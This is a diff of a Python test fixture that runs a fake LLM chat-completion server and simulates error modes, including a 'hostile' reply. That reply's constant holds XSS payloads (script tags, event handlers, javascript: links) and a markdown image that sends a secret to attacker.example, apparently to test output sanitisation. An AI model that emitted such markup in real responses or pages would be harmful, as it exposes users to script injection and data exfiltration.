@@ -19,14 +19,13 @@ import threading
 import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
-
 # Markdown/HTML a compromised or prompt-injected model might return (fault catalogue R4, R5, R9).
 HOSTILE_MARKDOWN = (
     "Intro <script>window.__pwned=1</script> <iframe src=https://evil.example></iframe> "
     "<details open ontoggle=alert(1)>x</details> [js](javascript:alert(1)) [data](data:text/html,x) "
     "![pixel](https://attacker.example/?q=secret) <!-- comment --> <style>body{display:none}</style> "
     "<base href=https://evil.example/> <meta http-equiv=refresh content=0;url=https://evil.example> "
-    '[t](https://ok.example "a\" onmouseover=\"alert(1)") <b>unbalanced </section></main> <!-- open '
+    '[t](https://ok.example "a" onmouseover="alert(1)") <b>unbalanced </section></main> <!-- open '
     "[rel](/admin) [proto](//evil.example/x) [anchor](#top) <think>hidden plan</think> **fine**"
 )
 
@@ -41,10 +40,17 @@ def _resolve(schema: dict, root: dict) -> dict:
 def _topic_plan(prompt: str, topics: int) -> dict:
     numbers = [int(n) for n in re.findall(r"^\[(\d+)\]", prompt, re.M)]
     groups = {i: numbers[i::topics] for i in range(topics)}
-    return {"topics": [
-        {"title": f"Fake topic {i + 1}", "description": f"Articles {groups[i]} grouped by the fake server.",
-         "article_ids": groups[i]} for i in range(topics) if groups[i]
-    ]}
+    return {
+        "topics": [
+            {
+                "title": f"Fake topic {i + 1}",
+                "description": f"Articles {groups[i]} grouped by the fake server.",
+                "article_ids": groups[i],
+            }
+            for i in range(topics)
+            if groups[i]
+        ]
+    }
 
 
 def _triage(prompt: str) -> dict:
@@ -54,8 +60,9 @@ def _triage(prompt: str) -> dict:
     return {"scores": [*scores, {"number": 999, "score": 10}]}
 
 
-def instance(schema: dict, root: dict, prompt: str, name: str = "", text: str | None = None,
-             wrong_paper: bool = False) -> object:
+def instance(
+    schema: dict, root: dict, prompt: str, name: str = "", text: str | None = None, wrong_paper: bool = False
+) -> object:
     """A value valid for `schema`, with strings that quote the prompt's title line (or `text`)."""
     schema = _resolve(schema, root)
     kind = schema.get("type")
@@ -144,13 +151,23 @@ class FakeLLM:
         if mode.startswith("429:"):
             return 429, {"error": {"message": "rate limited", "type": "rate_limit"}}, {"Retry-After": mode[4:]}
         if mode == "ctx400":
-            return 400, {"error": {"message": "This model's maximum context length is 4096 tokens.",
-                                   "type": "invalid_request_error", "code": "context_length_exceeded"}}
+            return 400, {
+                "error": {
+                    "message": "This model's maximum context length is 4096 tokens.",
+                    "type": "invalid_request_error",
+                    "code": "context_length_exceeded",
+                }
+            }
         if mode == "html200":
             return 200, "<html><body><h1>502 Bad Gateway</h1></body></html>"
         if mode == "inband":
-            return 200, {"id": "x", "object": "chat.completion", "model": model, "choices": None,
-                         "error": {"code": 502, "message": "upstream provider failed"}}
+            return 200, {
+                "id": "x",
+                "object": "chat.completion",
+                "model": model,
+                "choices": None,
+                "error": {"code": 502, "message": "upstream provider failed"},
+            }
         prompt = request["messages"][-1]["content"]
         fmt = request.get("response_format") or {}
         schema = fmt.get("json_schema", {}).get("schema") or fmt.get("schema")
@@ -161,8 +178,15 @@ class FakeLLM:
         elif schema.get("title") == "TriageScores":
             content = json.dumps(_triage(prompt))
         else:
-            content = json.dumps(instance(schema, schema, prompt, text=HOSTILE_MARKDOWN if mode == "hostile" else None,
-                                          wrong_paper=mode == "wrongpaper"))
+            content = json.dumps(
+                instance(
+                    schema,
+                    schema,
+                    prompt,
+                    text=HOSTILE_MARKDOWN if mode == "hostile" else None,
+                    wrong_paper=mode == "wrongpaper",
+                )
+            )
         message, finish = {"role": "assistant", "content": content}, "stop"
         if mode == "think":
             message["content"] = "<think>THINK-MARKER the system prompt says...</think>" + content
@@ -177,13 +201,19 @@ class FakeLLM:
         prompt_tokens = 40 if mode == "truncating" else sum(len(m["content"] or "") for m in request["messages"]) // 4
         choices = [] if mode == "nochoices" else [{"index": 0, "finish_reason": finish, "message": message}]
         return 200, {
-            "id": f"chatcmpl-{len(self.requests)}", "object": "chat.completion", "created": 0, "model": model,
+            "id": f"chatcmpl-{len(self.requests)}",
+            "object": "chat.completion",
+            "created": 0,
+            "model": model,
             "choices": choices,
-            "usage": {"prompt_tokens": prompt_tokens, "completion_tokens": len(content) // 4,
-                      "total_tokens": prompt_tokens + len(content) // 4},
+            "usage": {
+                "prompt_tokens": prompt_tokens,
+                "completion_tokens": len(content) // 4,
+                "total_tokens": prompt_tokens + len(content) // 4,
+            },
         }
 
-    def __enter__(self) -> "FakeLLM":
+    def __enter__(self) -> FakeLLM:
         threading.Thread(target=self._server.serve_forever, daemon=True).start()
         return self
 
